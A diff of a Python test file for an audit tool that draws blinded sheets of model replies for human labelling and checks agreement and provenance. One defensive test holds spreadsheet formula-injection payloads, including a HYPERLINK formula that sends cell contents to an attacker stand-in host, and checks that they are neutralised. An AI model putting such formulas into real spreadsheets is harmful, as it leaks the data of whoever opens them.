@@ -42,11 +42,11 @@ def fill(sheet_path, out, label=human):
 
 def test_sheet_is_seeded_and_blinded(tmp_path):
     run = tmp_path/"reports"/"normative"/"junk"; write_answers(run, ROWS)
-    a = write_audit_sheet(run, k=6, seed=4, out_dir=tmp_path/"a")
-    b = write_audit_sheet(run, k=6, seed=4, out_dir=tmp_path/"b")
-    c = write_audit_sheet(run, k=6, seed=5, out_dir=tmp_path/"c")
+    a = write_audit_sheet(run, k=6, seed=4, out_dir=tmp_path/"a", vocabulary=("P1", "other", "both", "neither"))   # normative's answers, as `audit sheet` passes them
+    b = write_audit_sheet(run, k=6, seed=4, out_dir=tmp_path/"b", vocabulary=("P1", "other", "both", "neither"))
+    c = write_audit_sheet(run, k=6, seed=5, out_dir=tmp_path/"c", vocabulary=("P1", "other", "both", "neither"))
     sheet = pd.read_csv(a["sheet"], dtype=str, keep_default_na=False)
-    assert list(sheet.columns) == ["row", "reply", "label"] and (sheet.label == "").all()
+    assert list(sheet.columns) == ["row", "prompt", "reply", "label"] and (sheet.label == "").all()
     assert sheet.equals(pd.read_csv(b["sheet"], dtype=str, keep_default_na=False))                       # seeded
     assert a["key"].read_bytes() == b["key"].read_bytes() and a["key"].read_bytes() != c["key"].read_bytes()
     key = pd.read_csv(a["key"], dtype=str, keep_default_na=False)
@@ -54,7 +54,7 @@ def test_sheet_is_seeded_and_blinded(tmp_path):
     assert (key.status != "failed").all() and key.reply_sha256.tolist() == [reply_sha256(r) for r in sheet.reply]
     about = json.loads(a["about"].read_text())
     assert (about["study"], about["run"], about["k"], about["seed"], about["n_drawn_from"]) == ("normative", "junk", 6, 4, 11)
-    assert about["labels"] == ["other", "person 1", "person 2", *NON_ANSWER_LABELS]
+    assert about["labels"] == ["both", "neither", "other", "p1", "person 1", "person 2", *NON_ANSWER_LABELS]   # the study's whole vocabulary and what the parser read
     # blinded: nothing per reply says what the parser read; every reply offers the same choices
     page, blob = a["form"].read_text(), a["sheet"].read_text()
     for text in (page, blob):
@@ -136,13 +136,14 @@ def test_agreement_numbers(tmp_path):
     assert sorted(audit[audit.agree.eq(False)].parser) == ["other"]*4 and set(audit[audit.agree.eq(False)].human) == {"not_an_answer"}
     on_disk = pd.read_csv(tmp_path/"a"/"audit_summary.csv")
     assert list(on_disk.columns) == INSTRUMENT_COLUMNS and on_disk.n_agree.item() == 7
-    # a second annotator who differs on one reply and leaves one empty: the first is disputed, neither is compared
+    # a second annotator who differs on one reply and leaves one empty: the first is disputed and counts as a disagreement
     s2 = fill(w["sheet"], tmp_path/"h2.csv")
     first_p1 = s2.index[s2.label.eq("Person 1")][0]; s2.loc[first_p1, "label"] = "unparseable"; s2.loc[s2.index[-1], "label"] = ""
     s2.to_csv(tmp_path/"h2.csv", index=False)
     summary, audit = collect_audit(tmp_path/"a", [tmp_path/"h1.csv", tmp_path/"h2.csv"])
     r = summary.iloc[0]
-    assert (r.n, r.n_agree, r.n_no_reference) == (10, 6, 1) and "1 disputed" in r.note
+    assert (r.n, r.n_agree, r.n_no_reference) == (11, 6, 0) and "1 disputed between annotators counted as disagreements" in r.note
+    assert audit.set_index("row").loc[s2.row[first_p1], "agree"] == False                                # never dropped (0.80 -> 1.00 on a real audit)
     assert audit.set_index("row").loc[s2.row[first_p1], "human_labels"] == "person 1|unparseable"
     assert audit.n_labels.tolist().count(1) == 1                                                          # the row the second left empty
 
@@ -203,6 +204,7 @@ def test_scripted_run_audit_and_report(tmp_path, monkeypatch, cli):
     assert r.returncode == 0, r.stderr
     folder = tmp_path/"audits"/"normative"/"scripted-junk"
     assert "key.csv" in r.stdout and (folder/"form.html").is_file()
+    assert {"both", "neither", "other", "p1"} <= set(json.loads((folder/"audit.json").read_text())["labels"])   # normative's whole vocabulary (Study.answer_labels)
     sheet = fill(folder/"sheet.csv", folder/"sheet.csv")
     n_junk = int(sheet.label.eq("not_an_answer").sum())
     assert 0 < n_junk < 15
@@ -245,3 +247,134 @@ def test_cli_help_texts(capsys):
     c = helptext("audit", "collect")
     for phrase in ("folder", "sheets", "sha256 in key.csv", "status for non-answers, value for answers", "default: <folder>/sheet.csv"):
         assert phrase in c, phrase
+
+
+# --- issue 50 (5, 7) and issue 51 (B08, B15): an audit a reviewer can trust -------------------------------------------------
+
+def collected(tmp_path, rows=ROWS, k=11, seed=0, study="normative", run="junk"):
+    "A run's answers, an audit drawn, filled by `human` and collected under audits/<study>/<run>/ of a project in tmp_path."
+    rd = tmp_path/"reports"/study/run; write_answers(rd, rows)
+    w = write_audit_sheet(rd, k=k, seed=seed, out_dir=tmp_path/"audits"/study/run, vocabulary=("P1", "other", "both", "neither"))
+    fill(w["sheet"], tmp_path/"filled.csv")
+    collect_audit(w["key"].parent, [tmp_path/"filled.csv"])
+    return w["key"].parent, pd.read_csv(rd/"answers.csv", dtype=str, keep_default_na=False)
+
+
+def test_audit_csv_set_to_the_parser_is_refused(tmp_path):
+    "Hand-setting audit.csv's human column to the parser's labels published 1.00 'measured on this run'; now it is recomputed from the sheets."
+    folder, answers = collected(tmp_path)
+    good = audit_validity("normative", "junk", answers, tmp_path/"audits")
+    assert good.n_agree.item() < good.n.item()
+    a = pd.read_csv(folder/"audit.csv", dtype=str, keep_default_na=False)
+    a["human"], a["human_labels"], a["agree"] = a.parser, a.parser, "True"
+    a.to_csv(folder/"audit.csv", index=False)
+    with pytest.raises(DataError, match=r"audit\.csv: row \d+ \('R\d+'\): field human = .*audit\.csv is not what `audit collect` derived.*Fix: run `silverspoon audit collect"):
+        audit_validity("normative", "junk", answers, tmp_path/"audits")
+    import shutil; shutil.rmtree(folder/"labels")                                                          # an audit.csv without the sheets behind it
+    with pytest.raises(DataError, match=r"audit\.csv: the filled sheets it was collected from are not in .*labels"):
+        audit_validity("normative", "junk", answers, tmp_path/"audits")
+
+
+@pytest.mark.parametrize("where", ["key.csv", "audit.csv"])
+def test_malformed_answer_row_names_file_row_field_and_fix(tmp_path, where):
+    "issue 51 B15: answer_row -1 was `KeyError: -1` failing the whole run."
+    folder, answers = collected(tmp_path)
+    f = folder/where
+    t = pd.read_csv(f, dtype=str, keep_default_na=False); t.loc[1, "answer_row"] = "-1"; t.to_csv(f, index=False)
+    with pytest.raises(DataError) as e: audit_validity("normative", "junk", answers, tmp_path/"audits")
+    msg = str(e.value)
+    assert msg.startswith(f"{f}: row 3 ('R02'): field answer_row = '-1'") and "Fix:" in msg
+
+
+def test_formula_replies_are_neutralised_in_the_sheet_and_read_back(tmp_path):
+    "issue 51 B08: a reply starting with = + - @ tab or CR went unchanged into sheet.csv (spreadsheet formula injection)."
+    evil = ['=HYPERLINK("http://attacker.invalid/leak?"&A3,"Person 1")', "+Person 2", "-1+1", "@SUM(A1:A9)", "\tPerson 1", "'=quoted"]   # a CR first is neutralised too (nbs/35_audit.ipynb), but answers.csv cannot keep a bare CR
+    rows = [("answer", "other", r) for r in evil]
+    rd = tmp_path/"reports"/"normative"/"evil"; write_answers(rd, rows)
+    w = write_audit_sheet(rd, k=len(evil), seed=0, out_dir=tmp_path/"a")
+    raw = pd.read_csv(w["sheet"], dtype=str, keep_default_na=False)
+    assert all(c.startswith("'") for c in raw.reply) and sorted(c[1:] for c in raw.reply) == sorted(evil)
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for col in ("prompt", "reply") for c in raw[col])
+    fill(w["sheet"], tmp_path/"filled.csv", label=lambda r: "not_an_answer")                              # labels still match the key
+    assert collect_audit(tmp_path/"a", [tmp_path/"filled.csv"])[0].n.item() == len(evil)
+    dropped = raw.assign(reply=raw.reply.str[1:], label="not_an_answer")                                  # a spreadsheet that dropped the quote
+    dropped.to_csv(tmp_path/"dropped.csv", index=False)
+    assert collect_audit(tmp_path/"a", [tmp_path/"dropped.csv"])[0].n.item() == len(evil)
+
+
+def test_sheet_refuses_a_published_report_folder(tmp_path, monkeypatch):
+    "issue 51 B15: `audit sheet --out` could write into a published report folder."
+    monkeypatch.setenv("SILVERSPOON_ROOT", str(tmp_path))
+    rd = tmp_path/"reports"/"normative"/"junk"; write_answers(rd, ROWS); (rd/"provenance.json").write_text("{}")
+    for out in (rd, rd/"audit", tmp_path/"reports"/"normative"):
+        with pytest.raises(DataError, match=r"a published report folder|where published reports live"):
+            write_audit_sheet(rd, k=3, out_dir=out)
+    assert sorted(p.name for p in rd.iterdir()) == ["answers.csv", "provenance.json"]
+
+
+def test_seed_minus_one_is_a_one_line_error(tmp_path, cli):
+    rd = tmp_path/"reports"/"normative"/"junk"; write_answers(rd, ROWS)
+    r = cli("audit", "sheet", rd, "--seed", "-1", "--out", tmp_path/"a")
+    assert r.returncode != 0 and "--seed -1: a seed is a whole number >= 0" in r.stderr and "Traceback" not in r.stderr
+    assert not (tmp_path/"a").exists()
+
+
+def test_labels_offered_are_the_study_vocabulary(tmp_path):
+    "A parser that only ever read 'P1' offered only 'p1': the annotator could not record the true answer."
+    rows = [("answer", "P1", f"P1 is wrong {i}.") for i in range(4)] + [("answer", "P1", "The landlord is wrong.")]
+    rd = tmp_path/"reports"/"normative"/"p1only"; write_answers(rd, rows)
+    w = write_audit_sheet(rd, k=5, seed=0, out_dir=tmp_path/"a", vocabulary=("P1", "other", "both", "neither"))
+    labels = json.loads(w["about"].read_text())["labels"]
+    assert {"p1", "other", "both", "neither"} <= set(labels)
+    fill(w["sheet"], tmp_path/"f.csv", label=lambda r: "other" if "landlord" in r else "P1")
+    s, a = collect_audit(tmp_path/"a", [tmp_path/"f.csv"])
+    assert (s.n.item(), s.n_agree.item()) == (5, 4)
+    # a study without a declared vocabulary (an open one, e.g. professions): the annotator writes the answer
+    rd = tmp_path/"reports"/"professions"/"open"; write_answers(rd, [("answer", "doctor", "She is a doctor."), ("answer", "doctor", "He is a nurse.")])
+    w = write_audit_sheet(rd, k=2, seed=0, out_dir=tmp_path/"b")
+    fill(w["sheet"], tmp_path/"g.csv", label=lambda r: "nurse" if "nurse" in r else "doctor")
+    assert collect_audit(tmp_path/"b", [tmp_path/"g.csv"])[0].n_agree.item() == 1
+
+
+def test_sheet_shows_the_prompt_beside_each_reply(tmp_path, monkeypatch):
+    "issue 50.7: 'The conductor is wrong.' cannot be labelled without the scenario: the sheet and form show the stored prompt."
+    monkeypatch.setenv("SILVERSPOON_ROOT", str(tmp_path))
+    rd = tmp_path/"reports"/"normative"/"junk"; write_answers(rd, ROWS)
+    store = tmp_path/"store"/"normative"/"junk.jsonl"; store.parent.mkdir(parents=True)
+    recs = [dict(key=str(i), item_id=f"item-{i}", answer=r, messages=[{"role": "user", "content": f"SCENARIO {i}: the conductor and P1. Who is wrong?"}])
+            for i, (_, _, r) in enumerate(ROWS) if r is not None]
+    store.write_text("".join(json.dumps(r) + "\n" for r in recs))
+    (rd/"provenance.json").write_text(json.dumps({"content": {"stores": {"store/normative/junk.jsonl": {"bytes": 1, "sha256": "x"}}}}))
+    w = write_audit_sheet(rd, k=6, seed=0, out_dir=tmp_path/"audits"/"normative"/"junk")
+    sheet, key = (pd.read_csv(w[n], dtype=str, keep_default_na=False) for n in ("sheet", "key"))
+    for p, item in zip(sheet.prompt, key.item_id):
+        assert p == f"user: SCENARIO {item.split('-')[1]}: the conductor and P1. Who is wrong?"
+    assert "SCENARIO" in w["form"].read_text() and "item-" not in w["form"].read_text()                 # the prompt shown, the item still hidden
+
+
+def test_editing_an_audit_file_or_a_parser_set_fails_verification(tmp_path, monkeypatch):
+    "issue 50.5: audit files and parser sets are in the run's content record; an edit after the run is named by verify."
+    import shutil
+    from silverspoon.engine import provenance as pv
+    from silverspoon.instruments.parse import parser_set
+    from silverspoon.core import project_root
+    src = project_root()/"tests"/"parser_sets"/"normative.csv"
+    monkeypatch.setenv("SILVERSPOON_ROOT", str(tmp_path))
+    monkeypatch.setattr(pv, "_INPUTS", {})
+    (tmp_path/"tests"/"parser_sets").mkdir(parents=True); shutil.copy(src, tmp_path/"tests"/"parser_sets"/"normative.csv")
+    parser_set("normative")
+    folder, answers = collected(tmp_path)
+    audit_validity("normative", "junk", answers)                                                        # the report's read of its audit
+    pins = pv.inputs_read(tmp_path)
+    assert "tests/parser_sets/normative.csv" in pins and {"audits/normative/junk/audit.csv", "audits/normative/junk/key.csv",
+                                                          "audits/normative/junk/labels/01-filled.csv"} <= set(pins)
+    assert pv.input_differences(pins, tmp_path) == []
+    s = pd.read_csv(tmp_path/"tests"/"parser_sets"/"normative.csv", dtype=str, keep_default_na=False)
+    i, j = s.index[s.expected.eq("P1")][0], s.index[s.expected.eq("other")][0]
+    s.loc[i, "expected"], s.loc[j, "expected"] = "other", "P1"; s.to_csv(tmp_path/"tests"/"parser_sets"/"normative.csv", index=False)
+    a = pd.read_csv(folder/"audit.csv", dtype=str, keep_default_na=False); a["human"] = a.parser; a.to_csv(folder/"audit.csv", index=False)
+    bad = pv.input_differences(pins, tmp_path)
+    assert [b.split(":")[0] for b in bad] == ["audits/normative/junk/audit.csv", "tests/parser_sets/normative.csv"]
+    assert all("was changed after the run read it" in b and "Fix:" in b for b in bad)
+    from silverspoon.engine.provenance import content_record, DIRTY_PATHS
+    assert content_record(None, None, (), src.parents[2], stores={}, inputs=pins)["inputs"] == pins and {"audits", "tests/parser_sets"} <= set(DIRTY_PATHS)
